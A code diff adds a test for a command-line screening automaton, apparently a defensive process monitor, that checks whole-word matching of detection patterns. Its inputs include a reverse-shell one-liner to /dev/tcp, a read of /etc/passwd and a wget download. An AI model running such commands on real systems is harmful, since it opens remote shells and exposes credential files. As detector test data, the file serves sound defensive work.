@@ -63,3 +63,32 @@ test('strings that could never match as written are refused', () => {
     assert.throws(() => new ScreenAutomaton([{ text: bad, owner: 0 }], 1), /exec screens/, bad);
   }
 });
+
+test('whole words match only between boundaries, however the word is quoted or reached', () => {
+  const words = new ScreenAutomaton(
+    [
+      { text: 'w', owner: 0, word: true },
+      { text: '/etc/passwd', owner: 1, word: true },
+      { text: 'dev/tcp', owner: 2 },
+    ],
+    3,
+  );
+  const hit = (commandLine: string, extra: Partial<ProcessInfo> = {}) => {
+    const hits = words.scan(proc(commandLine, extra));
+    return hits.all ? 'all' : [...hits.seen].flatMap((v, i) => (v ? [i] : []));
+  };
+  assert.deepEqual(hit('w'), [0]);
+  assert.deepEqual(hit('/usr/bin/w -h'), [0]);
+  assert.deepEqual(hit("sh -c 'id;w|head'"), [0]);
+  assert.deepEqual(hit('sh -c "$(w)"'), [0]);
+  assert.deepEqual(hit('x', { executable: '/usr/bin/W' }), [0], 'case folded');
+  assert.deepEqual(hit('wget -q http://www.example.com/w.tgz'), [0], 'w.tgz: the dot counts as a boundary too (generous)');
+  assert.deepEqual(hit('wget -q http://example.com/x'), [], 'w inside words does not match');
+  assert.equal(hit('echo a`w`'), 'all', 'a backtick would join the word to its neighbour');
+  assert.deepEqual(hit('cat /etc/passwd'), [1]);
+  assert.deepEqual(hit('cat /etc/passwd/'), [1]);
+  assert.deepEqual(hit("cat '/etc/passwd'"), [1]);
+  assert.deepEqual(hit('cat /etc/passwd.bak'), [1], 'generous: a dot is a boundary');
+  assert.deepEqual(hit('cat /etc/passwdx'), []);
+  assert.deepEqual(hit('bash -i >& /dev/tcp/1.2.3.4/80 0>&1'), [2], 'substrings still match across boundaries');
+});
